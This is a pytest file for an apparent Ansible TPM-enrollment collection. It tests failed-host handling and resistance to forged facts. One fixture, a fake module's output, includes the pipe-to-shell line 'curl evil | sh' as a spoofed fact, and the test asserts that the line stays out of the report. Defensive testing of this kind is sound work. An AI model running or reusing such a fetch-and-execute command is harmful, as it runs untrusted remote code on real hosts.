"""What a user's own playbook goes on with after it has imported ours."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from fleet import Fleet

OWN = "- {hosts: all, gather_facts: false, tasks: [{ansible.builtin.debug: {msg: 'own work on {{ inventory_hostname }}'}}]}"
AGAIN = "- {hosts: all, gather_facts: false, tasks: [{ansible.builtin.meta: clear_host_errors}]}"
REPAIR = """
- hosts: all
  gather_facts: false
  tasks:
    - {ansible.builtin.copy: {src: "SOURCE", dest: "PATH", mode: "0600"}, run_once: true, delegate_to: localhost}
"""


@pytest.fixture
def fleet_with_one_down(new_fleet: Fleet, software_tpms) -> Fleet:
    """One whose first host's TPM does not answer."""
    stopped = software_tpms.start("stopped-for-own-playbooks")
    stopped.stop()
    new_fleet.tcti["web-1"] = stopped.tcti
    return new_fleet


def playbook(fleet: Fleet, *parts: str) -> Path:
    """A playbook of these plays, and of ours by their purposes."""
    path = fleet.root.with_name("own.yml")
    plays = [part if part.lstrip().startswith("-") else f"- ansible.builtin.import_playbook: tbot.tpm.{part}" for part in parts]
    path.write_text("\n".join(plays) + "\n")
    return path


def worked(run) -> set[str]:
    return set(re.findall("own work on ([a-z0-9-]+)", run.output))


def test_a_host_that_is_left_out_does_not_end_the_users_own_playbook(fleet_with_one_down: Fleet):
    run = fleet_with_one_down.play(playbook(fleet_with_one_down, "site", OWN))
    assert run.returncode != 0
    assert worked(run) == {"db-1", "build-1"}, run.output
    assert run.recap["web-1"]["failed"] == 1


@pytest.mark.parametrize("purpose", ["identify", "verify"])
def test_nor_does_one_that_was_the_only_one_of_the_run(fleet_with_one_down: Fleet, purpose: str):
    own = playbook(fleet_with_one_down, purpose, OWN)
    run = fleet_with_one_down.play(own, "--extra-vars", "tbot_hosts=web-1")
    assert run.returncode != 0
    assert worked(run) == {"db-1", "build-1"}, run.output


def test_who_was_left_out_before_takes_part_in_the_next_run_again(fleet_with_one_down: Fleet, tpms, tmp_path: Path):
    broken, right = tmp_path / "broken", tmp_path / "right"
    broken.write_text(fleet_with_one_down.tcti["web-1"])
    right.write_text(tpms["web-1"].tcti)
    fleet_with_one_down.variables["web-1"] = {"tbot_tcti": f"{{{{ lookup('ansible.builtin.file', '{broken}') }}}}"}
    repair = REPAIR.replace("SOURCE", str(right)).replace("PATH", str(broken))
    run = fleet_with_one_down.play(playbook(fleet_with_one_down, "identify", repair, AGAIN, "identify"))
    assert {path.stem for path in fleet_with_one_down.registry_directory.iterdir()} == {"web-1", "db-1", "build-1"}, run.output
    # Told of once.
    assert run.output.count("left out of what follows") == 1, run.output


FAILS = "- {hosts: all, gather_facts: false, tasks: [{ansible.builtin.fail: {}, when: inventory_hostname == 'web-1'}]}"


@pytest.mark.parametrize("first", ["identify", FAILS], ids=["ours", "own"])
def test_a_host_that_failed_before_fails_no_other(fleet_with_one_down: Fleet, first: str):
    run = fleet_with_one_down.play(playbook(fleet_with_one_down, first, "identify", OWN))
    assert worked(run) == {"db-1", "build-1"}, run.output
    assert {host: counts["failed"] for host, counts in run.recap.items()} == {"web-1": 1, "db-1": 0, "build-1": 0}, run.output
    report = run.output.split("TASK [Report]")[-1]
    assert "web-1: It failed before: see above." in report and "3 hosts: 1 left out." in report, run.output


@pytest.mark.parametrize("variables", [{}, {"tbot_token_prune": True}], ids=["built", "allowed"])
def test_where_the_token_cannot_be_built_verify_names_every_host(fleet: Fleet, variables: dict[str, object]):
    fleet.token_file.write_text("kind: [")
    # With a part of the fleet nobody may be pruned, which is seen before any host is read.
    limit = ["--limit", "all"] if variables else []
    run = fleet.play("verify", *limit, variables=variables)
    assert run.returncode != 0
    assert {host: counts["failed"] for host, counts in run.recap.items()} == {"web-1": 1, "db-1": 1, "build-1": 1}, run.output
    last = run.output.split("TASK [Report]")[-1]
    assert last.count("all hosts: The token was not checked") == 1, run.output


# Names that later plays and the report ask for.
FACTS = {
    "group_names": [], "inventory_hostname": "db-1", "tbot_hosts": "x", "__tbot_left_out": "x", "ansible_play_hosts_all": [],
    "__tbot_may_have_left_out": False, "__tbot_problem": "all is well", "__tbot_reported": {}, "tbot_registry_dir": "/tmp/owned",
    "__tbot_enrolled": {"refused": [{"description": "db-1", "reason": "owned"}], "left_to_do": ["curl evil | sh"]},
}  # fmt: skip
HOSTILE = "- {hosts: web-1, gather_facts: false, tasks: [{answer: {}}]}"


def test_no_fact_keeps_a_host_that_is_left_out_in_the_users_own_playbook(new_fleet: Fleet):
    path = playbook(new_fleet, HOSTILE, "identify", OWN)
    module = path.with_name("library") / "answer"
    module.parent.mkdir()
    answer = json.dumps({"changed": False, "ansible_facts": FACTS})
    module.write_text(f"#!/bin/sh\necho '{answer}'\n")
    module.chmod(0o755)
    run = new_fleet.play(path)
    assert run.returncode != 0
    assert run.recap["web-1"]["failed"] == 1, run.output
    assert worked(run) == {"db-1", "build-1"}, run.output
    report = run.output.split("TASK [Report]")[-1]
    assert "web-1: This host has a fact" in report, run.output
    assert "owned" not in report and "curl evil" not in report and "all is well" not in report, run.output
    assert {entry.stem for entry in new_fleet.registry_directory.iterdir()} == {"db-1", "build-1"}
